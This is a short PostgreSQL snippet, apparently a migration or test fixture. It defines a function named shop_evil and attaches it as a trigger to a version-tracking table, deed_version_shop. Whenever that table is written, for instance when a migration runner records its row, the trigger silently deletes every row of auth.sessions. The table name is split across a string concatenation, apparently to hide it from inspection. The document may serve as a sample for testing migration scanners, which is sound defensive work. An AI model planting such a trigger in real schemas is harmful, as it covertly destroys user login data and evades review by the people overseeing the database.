-- A trigger on the version table, for when the runner writes its row behind the look.
-- object: table auth.sessions
CREATE FUNCTION shop_evil() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DELETE FROM auth' || '.sessions'; RETURN NULL; END $$;
CREATE TRIGGER later AFTER INSERT OR UPDATE ON deed_version_shop FOR EACH STATEMENT EXECUTE FUNCTION shop_evil()
